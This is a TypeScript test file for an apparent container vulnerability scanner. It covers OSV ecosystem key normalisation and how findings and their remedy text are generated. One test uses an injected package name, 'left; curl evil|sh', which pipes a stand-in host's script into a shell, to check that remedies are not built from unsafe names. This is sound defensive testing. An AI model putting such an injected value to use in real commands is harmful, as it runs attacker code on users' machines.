import { describe, expect, it } from 'vitest';
import { ecosystemKey, nameKey } from '../src/ecosystem/key.ts';
import { toFindings } from '../src/findings.ts';
import { bundleOf, folderOf, osv, packageOf, ranged } from './kit.ts';

describe('ecosystem keys', () => {
  it.each([
    ['Debian:12', 'Debian:12'],
    ['debian:bookworm', 'Debian:12'],
    ['Debian:12.5', 'Debian:12'],
    ['Debian:sid', 'Debian:sid'],
    ['Ubuntu:22.04:LTS', 'Ubuntu:22.04'],
    ['Ubuntu:Pro:18.04:LTS', 'Ubuntu:Pro:18.04'],
    ['Alpine:v3.18', 'Alpine:v3.18'],
    ['Alpine:3.18.4', 'Alpine:v3.18'],
    ['Alpine:edge', 'Alpine:edge'],
    ['AlmaLinux:9.3', 'AlmaLinux:9'],
    ['Rocky Linux:9', 'Rocky Linux:9'],
    ['Red Hat:enterprise_linux:9::appstream', 'Red Hat:9'],
    ['Red Hat:9.4', 'Red Hat:9'],
    ['Red Hat:rhel_eus:9.2::baseos', 'Red Hat:rhel_eus:9.2'],
    ['Wolfi:20230201', 'Wolfi'],
    ['Packagist:https://packages.drupal.org/8', 'Packagist'],
    ['openEuler:22.03-LTS-SP3', 'openEuler:22.03-LTS-SP3'],
    ['Go', 'Go'],
    ['Something New:1', 'Something New:1'],
  ])('%s is %s', (written, key) => {
    expect(ecosystemKey(written)).toBe(key);
    expect(ecosystemKey(key)).toBe(key);
  });
  it('compares names as the ecosystem does', () => {
    expect([nameKey('PyPI', 'Some_Thing.x'), nameKey('NuGet', 'Newton.Json'), nameKey('Go', 'Example.org/X')]).toEqual(['some-thing-x', 'newton.json', 'Example.org/X']);
  });
});

describe('findings', () => {
  it('keep their ids, carry layer and instruction, and say what to do', async () => {
    const bundle = await bundleOf(folderOf({ 'a.json': osv('GHSA-1', [ranged('npm', 'left', { introduced: '0' }, { fixed: '1.2.0' })], { summary: 'Prototype pollution' }) }));
    const one = packageOf('npm', 'left', '1.0.0', { layer: 'sha256:a', paths: ['app/node_modules/left/package.json'] });
    const context = { bundle, layers: [{ diffId: 'sha256:a', instruction: 'RUN npm ci', size: 1, base: false }] };
    const [finding] = toFindings(bundle.match([one]), context);
    expect(finding).toMatchObject({ rule: 'GHSA-1', layer: 'sha256:a', instruction: 'RUN npm ci', path: 'app/node_modules/left/package.json', fixed: '1.2.0', remedy: { en: 'Upgrade to 1.2.0 or later: npm install left@1.2.0' } });
    expect(finding?.title).toEqual({ en: 'left 1.0.0 is affected by GHSA-1: Prototype pollution', 'zh-CN': 'left 1.0.0 受 GHSA-1 影响：Prototype pollution' });
    expect(toFindings(bundle.match([one]), context)[0]?.id).toBe(finding?.id);
    expect(toFindings(bundle.match([one, one]), context)).toHaveLength(1);
  });

  it('put no name into a command that a shell would read as more than a name', async () => {
    const name = 'left; curl evil|sh';
    const bundle = await bundleOf(folderOf({ 'a.json': osv('GHSA-1', [ranged('npm', name, { introduced: '0' }, { fixed: '1.2.0' }), ranged('npm', '--unsafe', { introduced: '0' }, { fixed: '1.2.0' })]) }));
    for (const finding of toFindings(bundle.match([packageOf('npm', name, '1.0.0'), packageOf('npm', '--unsafe', '1.0.0')]), { bundle })) expect(finding.remedy?.en).not.toContain('npm install');
  });
});
